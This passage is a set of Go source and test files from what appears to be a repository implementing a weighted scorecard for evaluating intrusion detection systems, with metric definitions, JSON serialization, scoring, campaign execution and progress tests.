			RealTimeNote: "A predictor of network bandwidth used in a distributed IDS.",
		},
		Metric{
			ID: MHostBased, Name: "Host-based", Class: Architectural,
			Description: "Proportion of IDS input from log files, audit trails and other host data.",
			Methods:     both, InPaperTable: true,
			RealTimeNote: "Indicates the proportion of a monitored host's resources that the IDS will use.",
		},
		Metric{
			ID: MMultiSensorSupport, Name: "Multi-sensor Support", Class: Architectural,
			Description: "Ability of an IDS to integrate management and input of multiple sensors or analyzers.",
			Methods:     both, InPaperTable: true,
			RealTimeNote: "Measures the ability of an IDS to monitor a truly distributed system.",
		},
		Metric{
			ID: MNetworkBased, Name: "Network-based", Class: Architectural,
			Description: "Proportion of IDS input from packet analysis and other network data.",
			Methods:     both, InPaperTable: true,
			RealTimeNote: "Network-based IDSs consume network resources by being in-line or via port mirroring.",
		},
		Metric{
			ID: MScalableLoadBalancing, Name: "Scalable Load-balancing", Class: Architectural,
			Description: "Ability to partition traffic into independent, balanced sensor loads, and ability of the load-balancing subprocess to scale upwards and downwards.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Indicates whether an IDS will be able to grow as the system grows.",
			Anchors: Anchors{
				Low:     "No load balancing",
				Average: "Load balancing via static methods such as placement",
				High:    "Intelligent, dynamic load balancing",
			},
		},
		Metric{
			ID: MSystemThroughput, Name: "System Throughput", Class: Architectural,
			Description: "Maximal data input rate that can be processed successfully by the IDS. Measured in packets per second for network-based IDSs and Mbps for host-based IDSs.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Helps determine whether the IDS will become a constraint on the processing ability of a real-time system.",
		},
	)

	// ---- Architectural, defined but not tabled ----
	for _, nt := range []struct{ id, name, desc string }{
		{"anomaly-based", "Anomaly Based", "Degree to which detection relies on deviation from learned normal behavior."},
		{"autonomous-learning", "Autonomous Learning", "Ability of the IDS to refine its models without operator retraining."},
		{"host-os-security", "Host/OS Security", "Hardening of the platform the IDS itself runs on."},
		{"interoperability", "Interoperability", "Ability to exchange data and controls with third-party security components."},
		{"package-contents", "Package Contents", "Completeness of the delivered software/hardware package."},
		{"process-security", "Process Security", "Resistance of the IDS processes to tampering or termination."},
		{"signature-based", "Signature Based", "Degree to which detection relies on patterns of known attacks."},
		{"visibility", "Visibility", "Degree to which the IDS itself is observable to an adversary on the network."},
	} {
		ms = append(ms, Metric{
			ID: nt.id, Name: nt.name, Class: Architectural,
			Description: nt.desc, Methods: ByAnalysis | ByOpenSource,
		})
	}

	// ---- Performance, Table 3 ----
	ms = append(ms,
		Metric{
			ID: MAnalysisOfCompromise, Name: "Analysis of Compromise", Class: Performance,
			Description: "Ability to report the extent of damage and compromise due to intrusions.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Allows an administrator to determine which of the distributed systems is compromised for safer resource allocation.",
		},
		Metric{
			ID: MErrorReporting, Name: "Error Reporting and Recovery", Class: Performance,
			Description: "Appropriateness of the behavior of the IDS under error/failure conditions.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Indicates what an IDS will do when it fails or is overloaded.",
			Anchors: Anchors{
				Low:     "No notification, no log, no indication that an error has occurred. Fatal errors cause system to hang indefinitely.",
				Average: "Failure is logged and user is notified at some point in the future when the IDS is able. Fatal errors cause cold reboot of entire machine.",
				High:    "Failure is reported near real time via attack notification channels. Fatal errors cause restart of application(s) or service(s).",
			},
		},
		Metric{
			ID: MFirewallInteraction, Name: "Firewall Interaction", Class: Performance,
			Description: "Ability to interact with a firewall. Perhaps to update a firewall's block list.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Helps determine what means are available for a near real-time automated response to an intrusion.",
		},
		Metric{
			ID: MInducedLatency, Name: "Induced Traffic Latency", Class: Performance,
			Description: "Degree to which traffic is delayed by the IDS's presence or operation.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Measures the impact an IDS will have on network throughput.",
		},
		Metric{
			ID: MZeroLossThroughput, Name: "Maximal Throughput with Zero Loss", Class: Performance,
			Description: "Observed level of traffic that results in a sustained average of zero lost packets or streams. Measured in packets/sec or # of simultaneous TCP streams.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Indicates how effective the IDS will be given the expected traffic flow in the network to be protected.",
		},
		Metric{
			ID: MNetworkLethalDose, Name: "Network Lethal Dose", Class: Performance,
			Description: "Observed level of network or host traffic that results in a shutdown/malfunction of IDS. Measured in packets/sec or # of simultaneous TCP streams.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Tells the bandwidth where the IDS will fail to operate correctly leaving the system unprotected.",
		},
		Metric{
			ID: MObservedFNRatio, Name: "Observed False Negative Ratio", Class: Performance,
			Description: "Ratio of actual attacks that are not detected to the total transactions.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Measures accuracy; distributed systems should drive this to the lowest possible level, accepting increased false positives.",
		},
		Metric{
			ID: MObservedFPRatio, Name: "Observed False Positive Ratio", Class: Performance,
			Description: "Ratio of alarms raised that do not correspond to actual attacks to the total transactions.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Measures accuracy and the degree that coverage must be extended with other security measures.",
		},
		Metric{
			ID: MOperationalImpact, Name: "Operational Performance Impact", Class: Performance,
			Description: "Negative impact on the host processing capacity due to the operation of the IDS. Expressed as a percentage of processing power.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Host resources consumed directly reduce real-time task headroom.",
		},
		Metric{
			ID: MRouterInteraction, Name: "Router Interaction", Class: Performance,
			Description: "Degree to which the IDS can interact with a router. Perhaps it might redirect attacker traffic to a honeypot.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Another channel for near real-time automated response.",
		},
		Metric{
			ID: MSNMPInteraction, Name: "SNMP Interaction", Class: Performance,
			Description: "Ability of the IDS to send an SNMP trap to one or more network devices in response to a detected attack.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Another channel for near real-time automated response.",
		},
		Metric{
			ID: MTimeliness, Name: "Timeliness", Class: Performance,
			Description: "Average/maximal time between an intrusion's occurrence and its being reported.",
			Methods:     ByAnalysis, InPaperTable: true,
			RealTimeNote: "Alerts must be issued in a timely manner to prevent further damage from intrusions.",
		},
	)

	// ---- Performance, defined but not tabled ----
	for _, nt := range []struct{ id, name, desc string }{
		{"analysis-of-intruder-intent", "Analysis of Intruder Intent", "Ability to characterize what the intruder was attempting to accomplish."},
		{"clarity-of-reports", "Clarity of Reports", "Understandability and actionability of generated reports."},
		{"effectiveness-of-generated-filters", "Effectiveness of Generated Filters", "How well automatically generated attack filters stop the offending traffic without collateral blocking."},
		{"evidence-collection", "Evidence Collection", "Ability to preserve forensic evidence of an intrusion."},
		{"information-sharing", "Information Sharing", "Ability to exchange threat information with other IDS installations."},
		{"notification-user-alerts", "Notification: User Alerts", "Variety and reliability of operator alerting channels."},
		{"program-interaction", "Program Interaction", "Ability to invoke external programs in response to events."},
		{"session-recording-playback", "Session Recording and Playback", "Ability to record attack sessions and replay them for analysis."},
		{"threat-correlation", "Threat Correlation", "Ability to correlate one attack with another across sensors and time."},
		{"trend-analysis", "Trend Analysis", "Ability to report attack trends over long horizons."},
	} {
		ms = append(ms, Metric{
			ID: nt.id, Name: nt.name, Class: Performance,
			Description: nt.desc, Methods: ByAnalysis,
		})
	}

	return ms
}

// StandardRegistry builds the registry of StandardMetrics. It panics on
// error because the metric set is a compile-time constant of this
// repository; tests assert its validity.
func StandardRegistry() *Registry {
	r, err := NewRegistry(StandardMetrics())
	if err != nil {
		panic(err)
	}
	return r
}
