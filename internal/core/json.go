package core

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
)

// scorecardJSON is the interchange form of a scorecard.
type scorecardJSON struct {
	System       string            `json:"system"`
	Version      string            `json:"version,omitempty"`
	Observations []observationJSON `json:"observations"`
}

type observationJSON struct {
	Metric string `json:"metric"`
	Score  int    `json:"score"`
	How    string `json:"how,omitempty"`
	Note   string `json:"note,omitempty"`
}

func methodFromString(s string) (Method, error) {
	switch s {
	case "":
		return 0, nil
	case "analysis":
		return ByAnalysis, nil
	case "open-source":
		return ByOpenSource, nil
	case "analysis|open-source":
		return ByAnalysis | ByOpenSource, nil
	default:
		return 0, fmt.Errorf("core: unknown method %q", s)
	}
}

// WriteJSON serializes the scorecard with observations in registry order.
func (c *Scorecard) WriteJSON(w io.Writer) error {
	out := scorecardJSON{System: c.System, Version: c.Version}
	for _, m := range c.reg.All() {
		if o, ok := c.obs[m.ID]; ok {
			oj := observationJSON{Metric: o.MetricID, Score: int(o.Score), Note: o.Note}
			if o.How != 0 {
				oj.How = o.How.String()
			}
			out.Observations = append(out.Observations, oj)
		}
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(out)
}

// ReadScorecardJSON parses a scorecard against the given registry,
// validating every observation.
func ReadScorecardJSON(r io.Reader, reg *Registry) (*Scorecard, error) {
	var in scorecardJSON
	if err := json.NewDecoder(r).Decode(&in); err != nil {
		return nil, fmt.Errorf("core: parsing scorecard: %w", err)
	}
	if in.System == "" {
		return nil, fmt.Errorf("core: scorecard has no system name")
	}
	c := NewScorecard(reg, in.System, in.Version)
	for _, oj := range in.Observations {
		how, err := methodFromString(oj.How)
		if err != nil {
			return nil, err
		}
		if err := c.Set(Observation{MetricID: oj.Metric, Score: Score(oj.Score), How: how, Note: oj.Note}); err != nil {
			return nil, err
		}
	}
	return c, nil
}

// WriteWeightsJSON serializes weights sorted by metric ID.
func WriteWeightsJSON(w io.Writer, weights Weights) error {
	ids := make([]string, 0, len(weights))
	for id := range weights {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	type entry struct {
		Metric string  `json:"metric"`
		Weight float64 `json:"weight"`
	}
	out := make([]entry, 0, len(ids))
	for _, id := range ids {
		out = append(out, entry{Metric: id, Weight: weights[id]})
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(out)
}

// ReadWeightsJSON parses and validates weights against the registry.
func ReadWeightsJSON(r io.Reader, reg *Registry) (Weights, error) {
	var in []struct {
		Metric string  `json:"metric"`
		Weight float64 `json:"weight"`
	}
	if err := json.NewDecoder(r).Decode(&in); err != nil {
		return nil, fmt.Errorf("core: parsing weights: %w", err)
	}
	w := make(Weights, len(in))
	for _, e := range in {
		w[e.Metric] = e.Weight
	}
	if err := w.Validate(reg); err != nil {
		return nil, err
	}
	return w, nil
}
