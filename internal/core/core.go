// Package core implements the paper's primary contribution: the
// metrics-based IDS evaluation scorecard. It provides the full metric
// registry (every metric the paper names, across the Logistical,
// Architectural, and Performance classes), discrete 0–4 scoring with
// low/average/high anchors, observation-method tagging, flexible —
// including negative — weighting, and the weighted-score computation of
// Figure 5:
//
//	S_j = Σ_{i=1..n_j} ( U_ij · W_ij )
//
// where U_ij is the unweighted score of metric i in class j and W_ij its
// real-valued weight. The key property of the methodology is that systems
// are evaluated against this fixed standard rather than against each
// other, so an evaluation is reusable under different customer weightings.
package core

import (
	"errors"
	"fmt"
	"math"
)

// Class is the metric class, indexed as the paper indexes j.
type Class int

// Metric classes (Section 3.1).
const (
	// Logistical metrics measure expense, maintainability, manageability.
	Logistical Class = 1
	// Architectural metrics compare intended scope/architecture to the
	// deployment architecture.
	Architectural Class = 2
	// Performance metrics measure ability to do the job within the
	// monitored system's constraints.
	Performance Class = 3
)

// Classes lists all classes in index order.
var Classes = []Class{Logistical, Architectural, Performance}

// String names the class.
func (c Class) String() string {
	switch c {
	case Logistical:
		return "logistical"
	case Architectural:
		return "architectural"
	case Performance:
		return "performance"
	default:
		return fmt.Sprintf("class(%d)", int(c))
	}
}

// Method is how a metric value is observed (Section 3.1): direct analysis
// in a laboratory setting, or open-source material such as vendor
// specifications and reviews. A metric may allow both.
type Method int

// Observation methods.
const (
	// ByAnalysis is direct observation in a laboratory setting or source
	// code analysis.
	ByAnalysis Method = 1 << iota
	// ByOpenSource is vendor/user documentation: specs, white papers,
	// reviews.
	ByOpenSource
)

// String names the method set.
func (m Method) String() string {
	switch m {
	case ByAnalysis:
		return "analysis"
	case ByOpenSource:
		return "open-source"
	case ByAnalysis | ByOpenSource:
		return "analysis|open-source"
	default:
		return fmt.Sprintf("method(%d)", int(m))
	}
}

// Allows reports whether method how is permitted by the set.
func (m Method) Allows(how Method) bool { return m&how != 0 }

// Score is a discrete metric rating. The paper: "We chose to use scores
// with the discrete values zero through four, with higher scores
// interpreted as more favorable ratings."
type Score int

// MinScore and MaxScore bound the discrete range.
const (
	MinScore Score = 0
	MaxScore Score = 4
)

// Valid reports whether the score is in range.
func (s Score) Valid() bool { return s >= MinScore && s <= MaxScore }

// Anchors give the scorer concrete examples of low (0), average (2), and
// high (4) ratings, which is what makes the metrics "well-defined …
// observable, reproducible, quantifiable".
type Anchors struct {
	Low     string
	Average string
	High    string
}

// Metric is one scorecard entry definition.
type Metric struct {
	// ID is the stable kebab-case identifier.
	ID string
	// Name is the paper's display name.
	Name string
	// Class places the metric in the weighting structure.
	Class Class
	// Description is the defining sentence from the paper.
	Description string
	// Methods says how the metric may be observed.
	Methods Method
	// Anchors are the low/average/high examples (may be empty for
	// metrics the paper lists without elaboration).
	Anchors Anchors
	// RealTimeNote captures the paper's stated significance to
	// distributed real-time systems, when given.
	RealTimeNote string
	// InPaperTable records whether the metric appears in Tables 1-3 (the
	// real-time-relevant subset) or only in the "defined but not included
	// in this paper" lists.
	InPaperTable bool
}

// Characteristic implements the paper's "characteristic" requirement
// check at the definition level: a metric must carry a description and,
// if tabled in the architectural or performance class, a real-time
// significance note.
func (m Metric) Characteristic() bool {
	if m.Description == "" {
		return false
	}
	if m.InPaperTable && m.Class != Logistical && m.RealTimeNote == "" {
		return false
	}
	return true
}

// Observation is one scored metric for one system under test.
type Observation struct {
	MetricID string
	Score    Score
	// How records the observation method actually used.
	How Method
	// Note documents the evidence ("measured 41k pps zero-loss").
	Note string
}

// Scorecard is a complete evaluation of one system against the registry.
type Scorecard struct {
	// System names the IDS under test.
	System string
	// Version records the evaluated release.
	Version string
	obs     map[string]Observation
	reg     *Registry
}

// NewScorecard creates an empty scorecard against the given registry.
func NewScorecard(reg *Registry, system, version string) *Scorecard {
	return &Scorecard{System: system, Version: version, obs: make(map[string]Observation), reg: reg}
}

// Registry returns the metric registry the scorecard is bound to.
func (c *Scorecard) Registry() *Registry { return c.reg }

// Set records an observation. The metric must exist, the score must be
// valid, and the method must be one the metric definition allows.
func (c *Scorecard) Set(o Observation) error {
	m, ok := c.reg.Get(o.MetricID)
	if !ok {
		return fmt.Errorf("core: unknown metric %q", o.MetricID)
	}
	if !o.Score.Valid() {
		return fmt.Errorf("core: score %d for %q outside [%d,%d]", o.Score, o.MetricID, MinScore, MaxScore)
	}
	if o.How != 0 && !m.Methods.Allows(o.How) {
		return fmt.Errorf("core: metric %q cannot be observed by %v (allows %v)", o.MetricID, o.How, m.Methods)
	}
	c.obs[o.MetricID] = o
	return nil
}

// Get returns the observation for a metric, if recorded.
func (c *Scorecard) Get(metricID string) (Observation, bool) {
	o, ok := c.obs[metricID]
	return o, ok
}

// Observations returns a copy of all recorded observations keyed by
// metric.
func (c *Scorecard) Observations() map[string]Observation {
	out := make(map[string]Observation, len(c.obs))
	for k, v := range c.obs {
		out[k] = v
	}
	return out
}

// Missing lists registry metrics with no observation, in registry order.
func (c *Scorecard) Missing() []string {
	var out []string
	for _, m := range c.reg.All() {
		if _, ok := c.obs[m.ID]; !ok {
			out = append(out, m.ID)
		}
	}
	return out
}

// Complete reports whether every registry metric is scored.
func (c *Scorecard) Complete() bool { return len(c.Missing()) == 0 }

// Weights maps metric ID to a real-valued weight. "Any consistent numeric
// system of weights can be used … Negative weights may also be used to
// help distinguish where a feature is actually counterproductive."
type Weights map[string]float64

// Validate checks that every weighted metric exists in the registry and
// all weights are finite.
func (w Weights) Validate(reg *Registry) error {
	for id, v := range w {
		if _, ok := reg.Get(id); !ok {
			return fmt.Errorf("core: weight for unknown metric %q", id)
		}
		if math.IsNaN(v) || math.IsInf(v, 0) {
			return fmt.Errorf("core: weight for %q is not finite", id)
		}
	}
	return nil
}

// Uniform returns weights of 1.0 for every registry metric.
func Uniform(reg *Registry) Weights {
	w := make(Weights)
	for _, m := range reg.All() {
		w[m.ID] = 1
	}
	return w
}

// ErrIncomplete is returned when scoring a scorecard that is missing
// observations for weighted metrics.
var ErrIncomplete = errors.New("core: scorecard missing observations for weighted metrics")

// ClassScore computes S_j for one class under the given weights
// (Figure 5). Metrics without weights contribute nothing; weighted
// metrics without observations are an error.
func (c *Scorecard) ClassScore(j Class, w Weights) (float64, error) {
	var sum float64
	for _, m := range c.reg.ByClass(j) {
		wij, ok := w[m.ID]
		if !ok || wij == 0 {
			continue
		}
		o, ok := c.obs[m.ID]
		if !ok {
			return 0, fmt.Errorf("%w: %q", ErrIncomplete, m.ID)
		}
		sum += float64(o.Score) * wij
	}
	return sum, nil
}

// WeightedScore is the full Figure-5 result.
type WeightedScore struct {
	System string
	// ByClass holds S_j per class.
	ByClass map[Class]float64
	// Total is Σ_j S_j.
	Total float64
}

// Evaluate computes the complete weighted score.
func (c *Scorecard) Evaluate(w Weights) (WeightedScore, error) {
	if err := w.Validate(c.reg); err != nil {
		return WeightedScore{}, err
	}
	out := WeightedScore{System: c.System, ByClass: make(map[Class]float64)}
	for _, j := range Classes {
		s, err := c.ClassScore(j, w)
		if err != nil {
			return WeightedScore{}, err
		}
		out.ByClass[j] = s
		out.Total += s
	}
	return out, nil
}

// Rank orders scorecards by Total under the given weights, best first.
// The sort is stable so equal totals keep input order, making ties
// deterministic.
func Rank(cards []*Scorecard, w Weights) ([]WeightedScore, error) {
	out := make([]WeightedScore, 0, len(cards))
	for _, c := range cards {
		s, err := c.Evaluate(w)
		if err != nil {
			return nil, fmt.Errorf("core: evaluating %q: %w", c.System, err)
		}
		out = append(out, s)
	}
	for i := 1; i < len(out); i++ {
		for k := i; k > 0 && out[k].Total > out[k-1].Total; k-- {
			out[k], out[k-1] = out[k-1], out[k]
		}
	}
	return out, nil
}

// MetricDelta is one changed observation between two scorecards of the
// same system — the unit of the continual-re-evaluation workflow.
type MetricDelta struct {
	MetricID string
	// Before/After are the two observations. A zero-valued Observation
	// (empty MetricID) on either side means the metric was unscored there.
	Before, After Observation
	// Change is After.Score − Before.Score (0 when either side is
	// unscored; check the MetricIDs).
	Change int
}

// Diff compares two scorecards against the same registry and returns the
// metrics whose scores differ (or are present on only one side), in
// registry order. It errors if the cards are bound to different
// registries.
func Diff(before, after *Scorecard) ([]MetricDelta, error) {
	if before.reg != after.reg {
		return nil, errors.New("core: diffing scorecards from different registries")
	}
	var out []MetricDelta
	for _, m := range before.reg.All() {
		b, okB := before.Get(m.ID)
		a, okA := after.Get(m.ID)
		switch {
		case okB && okA:
			if b.Score != a.Score {
				out = append(out, MetricDelta{
					MetricID: m.ID, Before: b, After: a,
					Change: int(a.Score) - int(b.Score),
				})
			}
		case okB:
			out = append(out, MetricDelta{MetricID: m.ID, Before: b})
		case okA:
			out = append(out, MetricDelta{MetricID: m.ID, After: a})
		}
	}
	return out, nil
}
