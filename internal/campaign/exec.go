package campaign

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"time"

	"repro/internal/core"
	"repro/internal/eval"
	"repro/internal/faults"
	"repro/internal/obs"
	"repro/internal/products"
	"repro/internal/trace"
)

// execute runs one experiment and builds its persistable result. Every
// path forces Workers=1 internally: the campaign level is the only
// source of parallelism, so nested pools never oversubscribe the
// machine and the per-experiment simulations stay deterministic units.
func (r *Runner) execute(ctx context.Context, ex Experiment) (*Result, error) {
	if r.Exec != nil {
		return r.Exec(ctx, ex)
	}
	spec, ok := products.Find(ex.Product)
	if !ok {
		return nil, fmt.Errorf("campaign: unknown product %q", ex.Product)
	}
	res := &Result{ID: ex.ID, Kind: ex.Kind, Product: ex.Product}
	switch ex.Kind {
	case KindEval:
		opts := eval.Options{Seed: r.Spec.Seed, Quick: r.Spec.Quick, Workers: 1}
		if r.OnEvalSnapshot != nil {
			opts.Telemetry = true
			opts.OnSnapshot = func(ps products.Spec, snap *obs.Snapshot) {
				r.OnEvalSnapshot(ps.Name, snap)
			}
		}
		ev, err := eval.EvaluateProduct(ctx, spec, core.StandardRegistry(), opts)
		if err != nil {
			return nil, err
		}
		var card bytes.Buffer
		if err := ev.Card.WriteJSON(&card); err != nil {
			return nil, err
		}
		res.Eval = &EvalResult{
			Scorecard:   card.Bytes(),
			FalseAlarms: ev.Accuracy.FalseAlarms,
		}
		res.Eval.DetectionRate = ev.Accuracy.DetectionRate
		res.Eval.MeanDelayNs = int64(ev.Accuracy.MeanDetectionDelay)
		if ev.Throughput != nil {
			res.Eval.ZeroLossPps = ev.Throughput.ZeroLossPps
			res.Eval.LethalPps = ev.Throughput.LethalPps
		}
		if ev.Sweep != nil {
			res.Eval.EER = ev.Sweep.EER
			res.Eval.EERValid = ev.Sweep.EERValid
		}
	case KindSweepPoint:
		p, err := eval.SweepPointAt(ctx, spec, r.sweepOpts(ex), ex.Index)
		if err != nil {
			return nil, err
		}
		res.Point = &PointResult{
			Index: ex.Index, Points: ex.Points,
			Sensitivity: p.Sensitivity, TypeI: p.TypeI, TypeII: p.TypeII,
		}
	case KindFaultPoint:
		sc, err := faults.Load(ex.Scenario)
		if err != nil {
			return nil, err
		}
		fr, err := eval.FaultPointAt(ctx, spec, sc, r.faultOpts(ex), ex.Index)
		if err != nil {
			return nil, err
		}
		res.Fault = &FaultResult{
			Scenario: artifact(ex.Scenario), Index: ex.Index, Points: ex.Points,
			Severity:       fr.Severity,
			DetectionRate:  fr.Accuracy.DetectionRate,
			AlertsLost:     fr.AlertsLost,
			AlertsDropped:  fr.AlertsDropped,
			SpoolDelivered: fr.SpoolDelivered,
			SensorDownNs:   int64(fr.SensorDowntime),
		}
	case KindTrace:
		acc, err := r.runTrace(ctx, spec, ex.Trace)
		if err != nil {
			return nil, err
		}
		res.Trace = &TraceResult{
			Trace:           artifact(ex.Trace),
			ActualIncidents: acc.ActualIncidents,
			Detected:        acc.DetectedIncidents,
			FalseAlarms:     acc.FalseAlarms,
			DetectionRate:   acc.DetectionRate,
			FalsePosRatio:   acc.FalsePositiveRatio,
			MeanDelayNs:     int64(acc.MeanDetectionDelay),
		}
	default:
		return nil, fmt.Errorf("campaign: unknown experiment kind %q", ex.Kind)
	}
	return res, nil
}

// sweepOpts mirrors cmd/eersweep's sizing so campaign sweep points are
// bit-identical to a standalone sweep at the same seed and scale.
func (r *Runner) sweepOpts(ex Experiment) eval.SweepOptions {
	opts := eval.SweepOptions{Seed: r.Spec.Seed, Points: ex.Points, Workers: 1}
	if r.Spec.Quick {
		opts.TrainFor = 6 * time.Second
		opts.RunFor = 14 * time.Second
		opts.Pps = 200
		opts.Strength = 0.5
	}
	return opts
}

// faultOpts mirrors cmd/faultsweep's sizing.
func (r *Runner) faultOpts(ex Experiment) eval.FaultSweepOptions {
	opts := eval.FaultSweepOptions{Seed: r.Spec.Seed, Points: ex.Points, Workers: 1}
	if r.Spec.Quick {
		opts.TrainFor = 8 * time.Second
		opts.AttackFor = 20 * time.Second
		opts.Pps = 300
	}
	return opts
}

// runTrace replays a trace file against the product, sniffing the
// encoding by magic exactly as cmd/replay does.
func (r *Runner) runTrace(ctx context.Context, spec products.Spec, path string) (*eval.AccuracyResult, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("campaign: %w", err)
	}
	defer f.Close()
	var magic [4]byte
	if _, err := io.ReadFull(f, magic[:]); err != nil {
		return nil, fmt.Errorf("campaign: reading %s: %w", path, err)
	}
	if _, err := f.Seek(0, io.SeekStart); err != nil {
		return nil, fmt.Errorf("campaign: %w", err)
	}
	trainFor := 15 * time.Second
	if r.Spec.Quick {
		trainFor = 6 * time.Second
	}
	if trace.SniffStream(magic[:]) {
		rd, err := trace.NewReader(f)
		if err != nil {
			return nil, err
		}
		return eval.RunTraceAccuracyStream(ctx, spec, rd, r.Spec.Sensitivity, trainFor, r.Spec.Seed, nil)
	}
	tr, err := trace.ReadBinary(f)
	if err != nil {
		return nil, err
	}
	return eval.RunTraceAccuracy(ctx, spec, tr, r.Spec.Sensitivity, trainFor, r.Spec.Seed)
}
