package campaign_test

import (
	"context"
	"errors"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/campaign"
	"repro/internal/obs"
)

// TestProgressTracksJournal pins the live-endpoint contract: a Progress
// scrape mid-run shows the in-flight experiments, and the final counts
// agree exactly with what ReplayJournal reconstructs from disk.
func TestProgressTracksJournal(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 3)
	r := newRunner(dir, spec)
	r.Obs = obs.NewRegistry()
	fl := r.Obs.EnableFlight(obs.DefaultFlightCapacity)

	if p := r.Progress(); p.Planned != 0 || len(p.Running) != 0 || p.Done {
		t.Fatalf("pre-run progress not zero: %+v", p)
	}

	// The first experiment to start blocks until the main goroutine has
	// scraped a mid-run snapshot; the rest run through unimpeded.
	started := make(chan string, 1)
	release := make(chan struct{})
	var first atomic.Bool
	r.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		if first.CompareAndSwap(false, true) {
			started <- ex.ID
			<-release
		}
		return syntheticExec(ctx, ex)
	})

	type done struct {
		out *campaign.Outcome
		err error
	}
	ch := make(chan done, 1)
	go func() {
		out, err := r.Run(context.Background())
		ch <- done{out, err}
	}()

	var blocked string
	select {
	case blocked = <-started:
	case <-time.After(10 * time.Second):
		t.Fatal("no experiment started")
	}
	mid := r.Progress()
	if mid.Name != spec.Name {
		t.Errorf("mid-run name %q, want %q", mid.Name, spec.Name)
	}
	if mid.Done {
		t.Error("mid-run snapshot claims Done")
	}
	found := false
	for _, id := range mid.Running {
		if id == blocked {
			found = true
		}
	}
	if !found {
		t.Errorf("blocked experiment %q not in Running %v", blocked, mid.Running)
	}
	close(release)

	res := <-ch
	if res.err != nil {
		t.Fatal(res.err)
	}

	p := r.Progress()
	if !p.Done {
		t.Error("post-run progress not Done")
	}
	if len(p.Running) != 0 {
		t.Errorf("post-run Running not empty: %v", p.Running)
	}
	if p.Planned != res.out.Planned || p.Skipped != res.out.Skipped ||
		p.Completed != res.out.Completed || p.Retried != res.out.Retries ||
		p.Failed != len(res.out.Failed) {
		t.Errorf("progress %+v disagrees with outcome %+v", p, res.out)
	}

	// The journal is the ground truth the endpoint must agree with.
	entries, _, err := campaign.ReplayJournal(dir)
	if err != nil {
		t.Fatal(err)
	}
	journaled := 0
	for _, e := range entries {
		if e.Status == campaign.StatusDone {
			journaled++
		}
	}
	if journaled != p.Completed {
		t.Errorf("progress completed %d != journal done %d", p.Completed, journaled)
	}

	// Every committed experiment left a start and a done mark on the
	// flight timeline.
	var starts, dones int
	for _, ev := range fl.Events() {
		switch ev.Kind {
		case obs.FlightExperimentStart:
			starts++
		case obs.FlightExperimentDone:
			dones++
			if ev.Dur <= 0 {
				t.Errorf("done event for %s has no duration", ev.Name)
			}
			if !strings.Contains(ev.Name, "/") {
				t.Errorf("done event name %q is not an experiment ID", ev.Name)
			}
		}
	}
	if dones != p.Completed || starts < dones {
		t.Errorf("flight timeline starts=%d dones=%d, want dones=%d, starts>=dones", starts, dones, p.Completed)
	}
}

// TestProgressCountsRetriesAndFailures covers the failure-side counters
// and their flight events.
func TestProgressCountsRetriesAndFailures(t *testing.T) {
	dir := t.TempDir()
	spec := syntheticSpec(t, 2)
	r := newRunner(dir, spec)
	r.Obs = obs.NewRegistry()
	fl := r.Obs.EnableFlight(obs.DefaultFlightCapacity)

	exps, err := spec.Plan()
	if err != nil {
		t.Fatal(err)
	}
	flaky, doomed := exps[0].ID, exps[1].ID
	var flakyTries atomic.Int64
	r.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		switch ex.ID {
		case flaky:
			if flakyTries.Add(1) == 1 {
				return nil, errors.New("transient")
			}
		case doomed:
			return nil, errors.New("permanent")
		}
		return syntheticExec(ctx, ex)
	})

	out, err := r.Run(context.Background())
	if err == nil {
		t.Fatal("run with a doomed experiment reported success")
	}
	p := r.Progress()
	if p.Retried != out.Retries || p.Retried < 1 {
		t.Errorf("progress retried %d, outcome %d", p.Retried, out.Retries)
	}
	if p.Failed != len(out.Failed) || p.Failed != 1 {
		t.Errorf("progress failed %d, outcome %v", p.Failed, out.Failed)
	}
	if p.Completed != out.Completed {
		t.Errorf("progress completed %d, outcome %d", p.Completed, out.Completed)
	}

	retries := 0
	for _, ev := range fl.Events() {
		if ev.Kind == obs.FlightExperimentRetry {
			retries++
			if ev.Name != flaky && ev.Name != doomed {
				t.Errorf("retry event for unknown experiment %q", ev.Name)
			}
		}
	}
	if retries != out.Retries {
		t.Errorf("flight retries %d != outcome retries %d", retries, out.Retries)
	}
}
