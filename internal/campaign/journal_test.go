package campaign

import (
	"os"
	"path/filepath"
	"testing"
)

func writeJournal(t *testing.T, dir, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, "journal.jsonl"), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestReplayJournalLastEntryWins(t *testing.T) {
	dir := t.TempDir()
	writeJournal(t, dir,
		`{"id":"a","status":"failed","attempt":1,"error":"boom"}`+"\n"+
			`{"id":"b","status":"done","attempt":1}`+"\n"+
			`{"id":"a","status":"done","attempt":2}`+"\n")
	got, n, err := ReplayJournal(dir)
	if err != nil {
		t.Fatal(err)
	}
	if n != 3 {
		t.Fatalf("entries = %d, want 3", n)
	}
	if got["a"].Status != StatusDone || got["a"].Attempt != 2 {
		t.Fatalf("a = %+v, want done attempt 2", got["a"])
	}
	if got["b"].Status != StatusDone {
